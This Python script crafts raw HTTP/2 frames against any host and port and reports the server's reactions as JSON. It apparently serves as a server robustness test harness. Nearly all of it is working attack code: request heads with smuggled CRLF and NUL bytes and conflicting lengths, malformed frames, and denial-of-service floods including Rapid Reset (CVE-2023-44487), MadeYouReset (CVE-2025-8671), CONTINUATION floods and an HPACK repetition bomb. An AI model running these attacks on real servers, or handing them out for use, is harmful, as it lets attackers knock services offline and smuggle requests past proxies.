"""HTTP/2 as no honest client speaks it, frame by frame.

    attacks.py HOST PORT NAME

Runs the attack NAME on a connection of its own, listens until the other end closes or has nothing
more to say, and prints what it said as one line of JSON:

    {"statuses": {stream: status}, "resets": {stream: code}, "goaway": code or null,
     "closed": whether the other end closed, "sent": how many attacking frames it took}
"""

import json
import socket
import sys

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame,
    PushPromiseFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = [(":method", "GET"), (":scheme", "http"), (":path", "/a"), (":authority", "a.example")]
POST = [(":method", "POST")] + GET[1:]

# How long the other end may be silent before it is taken to have said everything, in seconds.
QUIET = 3.0


class Connection:
    """A client's connection. What it is told to send it sends, right or wrong."""

    def __init__(self, host, port, settings=None):
        self.socket = socket.create_connection((host, port), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.decoder = Encoder(), Decoder()
        self.encoder.huffman_coding = False
        self.statuses, self.resets, self.goaway = {}, {}, None
        self.closed, self.sent, self.unread, self.block = False, 0, b"", b""
        self.ended, self.seen = set(), []
        self.raw(PREFACE)
        self.frame(SettingsFrame(0, settings or {}))

    def raw(self, data):
        """Sends bytes; False once the other end takes none."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def frame(self, frame):
        return self.raw(frame.serialize())

    def headers(self, stream, headers, end=True, complete=True, **more):
        """A HEADERS frame. Names and values go as they are, without a look."""
        flags = ["END_STREAM"] * end + ["END_HEADERS"] * complete
        frame = HeadersFrame(stream or 1, self.block_of(headers), flags=flags)
        frame.stream_id = stream
        for key, value in more.items():
            setattr(frame, key, value)
            frame.flags.add("PRIORITY")
        return self.frame(frame)

    def block_of(self, headers):
        """A header block of literals that nobody is to remember."""
        def text(it):
            it = it if isinstance(it, bytes) else it.encode("latin-1")
            return number(len(it), 7) + it
        return b"".join(b"\x00" + text(name) + text(value) for name, value in headers)

    def bare(self, kind, payload, stream=0, flags=0):
        """A frame of these parts, whether or not they go together."""
        head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
        return self.raw(head + payload)

    def data(self, stream, data=b"", end=False):
        frame = DataFrame(stream or 1, data, flags=["END_STREAM"] * end)
        frame.stream_id = stream
        return self.frame(frame)

    def flood(self, data, most):
        """Sends these bytes again and again, and reads meanwhile so as not to be the slow one."""
        self.socket.setblocking(False)
        queue = b""
        while self.sent < most and not self.closed:
            queue = queue or data
            try:
                queue = queue[self.socket.send(queue):]
                self.sent += not queue
            except BlockingIOError:
                self.socket.setblocking(True)
                self.listen(until=lambda: True, quiet=0.5)
                self.socket.setblocking(False)
            except OSError:
                break
        self.socket.setblocking(True)

    def listen(self, until=lambda: False, quiet=QUIET):
        """Hears frames until there are no more, or this is so."""
        self.socket.settimeout(quiet)
        while True:
            while self.next():
                pass
            if until():
                return
            try:
                data = self.socket.recv(65536)
            except TimeoutError:
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.unread += data

    def next(self):
        if len(self.unread) < 9:
            return False
        frame, length = Frame.parse_frame_header(memoryview(self.unread[:9]))
        if len(self.unread) < 9 + length:
            return False
        frame.parse_body(memoryview(self.unread[9:9 + length]))
        self.unread = self.unread[9 + length:]
        self.take(frame)
        return True

    def take(self, frame):
        self.seen.append(type(frame).__name__)
        if isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block += bytes(frame.data)
            if "END_HEADERS" in frame.flags:
                headers = dict(self.decoder.decode(self.block))
                self.block = b""
                if ":status" in headers:
                    self.statuses[frame.stream_id] = int(headers[":status"])
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.frame(SettingsFrame(0, flags=["ACK"]))
        if "END_STREAM" in frame.flags:
            self.ended.add(frame.stream_id)

    def over(self, *streams):
        """Whether all these have ended, or the connection has."""
        return lambda: self.goaway is not None or all(
            stream in self.ended or stream in self.resets for stream in streams)

    def told(self):
        return {"statuses": self.statuses, "resets": self.resets, "goaway": self.goaway,
                "closed": self.closed, "sent": self.sent}


def number(value, bits):
    """An integer of HPACK (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


# --- heads that break the rules: each is a request on stream 1, and stream 3 is an honest one

HEADS = {
    "no method": GET[1:],
    "no path": GET[:2] + GET[3:],
    "no scheme": [GET[0]] + GET[2:],
    "an empty path": GET[:2] + [(":path", "")] + GET[3:],
    "a path without a slash": GET[:2] + [(":path", "a")] + GET[3:],
    "two paths": GET + [(":path", "/b")],
    "two methods": GET + [(":method", "POST")],
    "two authorities": GET + [(":authority", "b.example")],
    "an unknown pseudo-header": GET + [(":secret", "x")],
    "a pseudo-header of answers": GET + [(":status", "200")],
    "a pseudo-header after headers": GET[:3] + [("accept", "x")] + GET[3:],
    "a path after headers": GET[:2] + [("accept", "x")] + GET[2:],
    "an upper-case name": GET + [("X-Secret", "x")],
    "an empty name": GET + [("", "x")],
    "a name with a space": GET + [("x y", "x")],
    "a name with a line's end": GET + [("x\r\ny", "x")],
    "a name with a colon": GET + [("x:y", "x")],
    "connection": GET + [("connection", "close")],
    "keep-alive": GET + [("keep-alive", "5")],
    "proxy-connection": GET + [("proxy-connection", "x")],
    "transfer-encoding": POST + [("transfer-encoding", "chunked")],
    "upgrade": GET + [("upgrade", "websocket")],
    "te that is not trailers": GET + [("te", "gzip")],
    "a host that is not the authority": GET + [("host", "b.example")],
    "two hosts": GET[:3] + [("host", "a.example"), ("host", "b.example")],
    "an authority with userinfo": GET[:3] + [(":authority", "me@a.example")],
    "an authority with a path": GET[:3] + [(":authority", "a.example/b")],
    "an authority with a space": GET[:3] + [(":authority", "a b")],
    "no authority and no host": GET[:3],
    "a path with a line's end": GET[:2] + [(":path", "/a\r\nx: y")] + GET[3:],
    "a path with a space": GET[:2] + [(":path", "/a HTTP/1.1\r\n")] + GET[3:],
    "a path with a fragment": GET[:2] + [(":path", "/a#b")] + GET[3:],
    "a method with a space": [(":method", "GET /b HTTP/1.1")] + GET[1:],
    "a method with a line's end": [(":method", "GET\r\nx: y")] + GET[1:],
    "a value with a line's end": GET + [("x-a", "b\r\nc: d")],
    "a value with an LF": GET + [("x-a", "b\nc")],
    "a value with a NUL": GET + [("x-a", "b\0c")],
    "a length that is no number": POST + [("content-length", "five")],
    "a length with a plus": POST + [("content-length", "+0")],
    "two lengths that differ": POST + [("content-length", "0"), ("content-length", "1")],
    "a list of lengths": POST + [("content-length", "0, 0")],
    "a length, and no body": POST + [("content-length", "5")],
    "an unknown scheme": [GET[0], (":scheme", "ftp")] + GET[2:],
    "CONNECT with a path": [(":method", "CONNECT")] + GET[1:],
    "CONNECT without an authority": [(":method", "CONNECT")],
    "a protocol without CONNECT": GET + [(":protocol", "websocket")],
    "a length with zeros ahead": POST + [("content-length", "00")],
    "a length by another name": POST + [("content_length", "5")],
    "an encoding by another name": POST + [("transfer_encoding", "chunked")],
    "an expectation that nobody knows": POST + [("expect", "junk")],
    "a path with a character that is no ASCII": GET[:2] + [(":path", b"/a\xe2\x80\xa8")] + GET[3:],
    "a query with a character that is no ASCII": GET[:2] + [(":path", b"/a?\xc3\xa9")] + GET[3:],
    "a value with a blank ahead": GET + [("x-a", " b")],
    "a value with a tab behind": GET + [("x-a", "b\t")],
    "a method in small letters": [(":method", "get")] + GET[1:],
    "a method that is too long": [(":method", "X" * 33)] + GET[1:],
    "two user agents": GET + [("user-agent", "a"), ("user-agent", "b")],
    "two authorizations": GET + [("authorization", "a"), ("authorization", "b")],
    "a TRACE with a cookie": [(":method", "TRACE")] + GET[1:] + [("cookie", "a=b")],
}


def heads(host, port):
    """Each of these on a connection of its own, since some end it."""
    told = {}
    for name, headers in HEADS.items():
        connection = Connection(host, port)
        connection.headers(1, headers)
        connection.headers(3, GET)
        connection.listen(connection.over(1, 3))
        told[name] = connection.told()
    return told


# --- bodies and streams that break the rules

def streams(host, port):
    def body_longer(c):
        c.headers(1, POST + [("content-length", "3")], end=False)
        c.data(1, b"hello", end=True)

    def body_shorter(c):
        c.headers(1, POST + [("content-length", "9")], end=False)
        c.data(1, b"hello", end=True)

    def pseudo_trailer(c):
        c.headers(1, POST, end=False)
        c.data(1, b"hello")
        c.headers(1, [(":path", "/b")])

    def trailers_unended(c):
        c.headers(1, POST, end=False)
        c.data(1, b"hello")
        c.headers(1, [("x-sum", "1")], end=False)

    def connection_trailer(c):
        c.headers(1, POST, end=False)
        c.data(1, b"hello")
        c.headers(1, [("connection", "close")])

    def even(c):
        c.headers(2, GET)

    def backwards(c):
        c.headers(5, GET)
        c.headers(3, GET)

    def stream_zero(c):
        c.headers(0, GET)

    def data_zero(c):
        c.data(0, b"hello", end=True)

    def data_on_idle(c):
        c.data(7, b"hello", end=True)

    def data_after_end(c):
        c.headers(1, POST, end=True)
        c.data(1, b"hello", end=True)

    def headers_after_end(c):
        c.headers(1, GET)
        c.headers(1, GET)

    def update_of_idle(c):
        c.frame(WindowUpdateFrame(9, window_increment=1))

    def reset_of_idle(c):
        c.frame(RstStreamFrame(9, error_code=8))

    def depends_on_itself(c):
        c.headers(1, GET, depends_on=1, stream_weight=1, exclusive=False)

    def priority_of_itself(c):
        c.headers(1, POST, end=False)
        c.frame(PriorityFrame(1, depends_on=1, stream_weight=1, exclusive=False))
        c.data(1, end=True)

    def zero_update(c):
        c.headers(1, POST, end=False)
        c.bare(8, b"\0\0\0\0", stream=1)

    def zero_update_of_all(c):
        c.bare(8, b"\0\0\0\0")

    def overflow(c):
        c.headers(1, POST, end=False)
        for _ in range(2):
            c.frame(WindowUpdateFrame(1, window_increment=2**31 - 1))

    def overflow_of_all(c):
        for _ in range(2):
            c.frame(WindowUpdateFrame(0, window_increment=2**31 - 1))

    def overflow_by_settings(c):
        c.bare(4, b"\x00\x04" + (2**31).to_bytes(4, "big"))

    def more_than_the_window(c):
        c.headers(1, POST, end=False)
        c.flood(DataFrame(1, b"x" * 16384).serialize(), 2000)

    def odd_settings(c):
        c.bare(4, b"hello")

    def settings_on_a_stream(c):
        c.bare(4, b"", stream=1)

    def settings_ack_with_more(c):
        c.bare(4, b"\0\x04\0\0\0\0", flags=1)

    def too_small_frames_wanted(c):
        c.bare(4, b"\x00\x05\0\0\0\x01")

    def short_ping(c):
        c.bare(6, b"1234567")

    def a_frame_too_large(c):
        c.headers(1, POST, end=False)
        c.bare(0, b"x" * 20000, stream=1)

    def push(c):
        c.headers(1, POST, end=False)
        c.frame(PushPromiseFrame(1, 2, c.block_of(GET), flags=["END_HEADERS"]))

    def padding_longer_than_the_frame(c):
        c.headers(1, POST, end=False)
        c.bare(0, b"\x09x", stream=1, flags=8)

    def continuation_of_nothing(c):
        c.frame(ContinuationFrame(1, c.block_of(GET), flags=["END_HEADERS"]))

    def interrupted_head(c):
        c.headers(1, GET, complete=False)
        c.frame(PingFrame(0, b"12345678"))

    def continued_on_another_stream(c):
        c.headers(1, GET, complete=False)
        c.frame(ContinuationFrame(3, c.block_of(GET), flags=["END_HEADERS"]))

    def a_broken_block(c):
        c.frame(HeadersFrame(1, b"\xff\xff\xff\xff\xff\xff", flags=["END_HEADERS", "END_STREAM"]))

    def an_index_out_of_range(c):
        c.frame(HeadersFrame(1, b"\xbf\xbe", flags=["END_HEADERS", "END_STREAM"]))

    def a_table_larger_than_allowed(c):
        c.frame(HeadersFrame(1, b"\x3f\xe1\xff\x7f" + c.block_of(GET),
                             flags=["END_HEADERS", "END_STREAM"]))

    def no_settings_but_junk(c):
        c.raw(b"GET / HTTP/1.1\r\n\r\n" * 4)

    told = {}
    for act in [it for it in locals().values() if callable(it)]:
        c = Connection(host, port)
        act(c)
        # A request that was whole before its stream broke a rule may be answered first.
        c.listen(c.over(1), quiet=1.0)
        if c.statuses.get(1) == 200:
            c.listen(lambda: c.goaway is not None or 1 in c.resets, quiet=1.0)
        told[act.__name__] = c.told()
    return told


# --- attacks on a connection each. What they return is when all has been said; without that, it is
# listened until the end.

def continuation_flood(c):
    """A head without end."""
    c.headers(1, GET, complete=False)
    c.flood(ContinuationFrame(1, c.block_of([("x-a", "b" * 4000)])).serialize(), 20_000)


def empty_continuation_flood(c):
    """A head without end, of nothing."""
    c.headers(1, GET, complete=False)
    c.flood(ContinuationFrame(1, b"").serialize() * 100, 20_000)


def opened_and_ended(c, how):
    for stream in range(1, 40_001, 2):
        block = HeadersFrame(stream, c.block_of(GET), flags=["END_HEADERS", "END_STREAM"])
        if not c.raw(block.serialize() + how(stream).serialize()):
            break
        c.sent += 1


def rapid_reset(c):
    """CVE-2023-44487: streams that are reset as soon as they are opened."""
    opened_and_ended(c, lambda stream: RstStreamFrame(stream, error_code=8))


def made_you_reset(c):
    """CVE-2025-8671: streams that the other end is brought to reset."""
    opened_and_ended(c, lambda stream: WindowUpdateFrame(stream, window_increment=2**31 - 1))


def settings_flood(c):
    """Settings, each of which is answered."""
    c.flood(SettingsFrame(0, {4: 65535}).serialize() * 100, 200)
    c.headers(1, GET)
    return c.over(1)


def ping_flood(c):
    """Pings whose answers nobody reads."""
    c.socket.settimeout(5)
    ping = PingFrame(0, b"12345678").serialize() * 1000
    while c.sent < 5_000 and c.raw(ping):
        c.sent += 1
    return lambda: True


def empty_data_flood(c):
    c.headers(1, POST, end=False)
    c.flood(DataFrame(1, b"").serialize() * 100, 20_000)


def priority_flood(c):
    c.flood(PriorityFrame(1, depends_on=3, stream_weight=1).serialize() * 100, 2_000)
    c.headers(1, GET)
    return c.over(1)


def unknown_flood(c):
    """Frames of a type that nobody knows: they are to be ignored."""
    c.flood(b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00" * 100, 2_000)
    c.headers(1, GET)
    return c.over(1)


def hpack_bomb(c):
    """One large header that is said once and repeated by a byte each time."""
    large = b"\x40" + number(1, 7) + b"a" + number(4000, 7) + b"b" * 4000
    block = c.block_of(GET) + large + b"\xbe" * 12_000
    c.frame(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]))
    for stream in range(3, 203, 2):
        block = c.block_of(GET) + b"\xbe" * 16_000
        c.sent += c.frame(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
    return c.over(*range(1, 203, 2))


def repeated_line(c):
    """A header of 3.9 kB that is said once, and then stands 15 times in each head of few bytes."""
    said = b"\x40" + number(1, 7) + b"a" + number(3900, 7) + b"b" * 3900
    c.frame(HeadersFrame(1, c.block_of(GET) + said, flags=["END_HEADERS", "END_STREAM"]))
    c.listen(c.over(1))
    for stream in range(3, 100, 2):
        block = c.block_of(GET) + b"\xbe" * 15
        c.sent += c.frame(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
    return lambda: c.goaway is not None


def repeated_trailer(c):
    """The same in trailers."""
    said = b"\x40" + number(1, 7) + b"a" + number(3900, 7) + b"b" * 3900
    c.frame(HeadersFrame(1, c.block_of(GET) + said, flags=["END_HEADERS", "END_STREAM"]))
    c.listen(c.over(1))
    c.headers(3, POST, end=False)
    c.data(3, b"hello")
    c.frame(HeadersFrame(3, b"\xbe" * 15, flags=["END_HEADERS", "END_STREAM"]))
    return lambda: c.goaway is not None


def large_head(c):
    """A head of a megabyte, in one block."""
    block = c.block_of(GET + [(f"x-{n}", "b" * 8000) for n in range(128)])
    c.frame(HeadersFrame(1, block[:16000], flags=["END_STREAM"]))
    rest = [block[at:at + 16000] for at in range(16000, len(block), 16000)]
    for n, part in enumerate(rest):
        flags = ["END_HEADERS"] * (n + 1 == len(rest))
        c.sent += c.frame(ContinuationFrame(1, part, flags=flags))
    return c.over(1)


def many_headers(c):
    """More headers than a request may have, all of them small."""
    c.headers(1, GET + [(f"x-{n}", "b") for n in range(200)])
    return c.over(1)


def long_target(c):
    c.headers(1, GET[:2] + [(":path", "/" + "a" * 10_000)] + GET[3:])
    return c.over(1)


def too_many_streams(c):
    """More streams than are allowed, none of which ends."""
    c.listen(lambda: "SettingsFrame" in c.seen)
    for stream in range(1, 2001, 2):
        c.sent += c.headers(stream, POST, end=False)


def on_a_connection(attack, host, port):
    c = Connection(host, port)
    c.listen(attack(c) or (lambda: False))
    return c.told()


if __name__ == "__main__":
    _, host, port, name = sys.argv
    if name in ("heads", "streams"):
        told = globals()[name](host, int(port))
    else:
        told = on_a_connection(globals()[name], host, int(port))
    print(json.dumps(told))
